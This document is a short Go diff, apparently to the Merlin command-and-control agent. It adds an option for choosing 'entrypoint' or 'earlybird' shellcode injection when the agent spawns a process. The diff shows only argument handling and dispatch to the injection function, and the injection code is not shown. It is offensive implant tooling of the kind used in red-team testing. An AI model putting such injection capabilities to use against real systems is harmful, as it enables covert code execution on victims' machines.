@@ -27,6 +27,7 @@ import (
 	"fmt"
 	"io"
 	"strconv"
+	"strings"
 
 	// Merlin Main
 	"github.com/Ne0nd0g/merlin-message/jobs"
@@ -52,7 +53,18 @@ func CreateProcess(cmd jobs.Command) jobs.Results {
 	// 1. Shellcode
 	// 2. SpawnTo Executable
 	// 3. SpawnTo Arguments
-	results.Stdout, results.Stderr, err = ExecuteShellcodeCreateProcessWithPipe(cmd.Args[0], cmd.Args[1], cmd.Args[2])
+	// 4. Optional technique: entrypoint (default) or earlybird
+	technique := "entrypoint"
+	if len(cmd.Args) > 3 {
+		technique = strings.ToLower(cmd.Args[3])
+	}
+	switch technique {
+	case "entrypoint", "earlybird":
+	default:
+		results.Stderr = fmt.Sprintf("invalid createprocess technique: %s", cmd.Args[3])
+		return results
+	}
+	results.Stdout, results.Stderr, err = ExecuteShellcodeCreateProcessWithPipe(cmd.Args[0], cmd.Args[1], cmd.Args[2], technique)
 	if err != nil {
 		results.Stderr = err.Error()
 	}